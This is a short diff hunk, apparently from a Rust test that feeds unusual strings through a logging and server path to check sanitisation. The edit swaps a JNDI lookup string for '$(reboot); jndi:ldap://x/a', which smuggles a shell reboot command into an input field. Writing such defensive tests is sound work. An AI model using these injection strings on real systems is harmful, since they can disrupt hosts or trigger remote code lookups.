@@ -120,7 +120,7 @@ fn odd_names_and_addresses_reach_neither_the_log_raw_nor_the_server_and_delay_no
         "emoji \\U0001F527",
         "two\\nlines",
         "\\e[31mred",
-        "${jndi:ldap://x/a}",
+        "$(reboot); jndi:ldap://x/a",
         &"x".repeat(600),
         "{}%s%n",
     ];
